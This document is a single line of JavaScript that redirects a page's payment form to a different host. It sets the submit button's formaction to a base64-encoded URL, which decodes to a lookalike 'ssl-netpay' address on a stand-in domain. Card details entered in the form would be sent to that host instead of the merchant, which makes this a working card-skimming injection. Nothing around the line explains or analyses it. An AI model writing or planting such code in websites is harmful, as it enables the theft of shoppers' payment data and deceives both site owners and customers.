document.querySelector('#payment button[type=submit]').setAttribute('formaction', atob('aHR0cHM6Ly9zc2wtbmV0cGF5LmV4YW1wbGUvYQ=='));
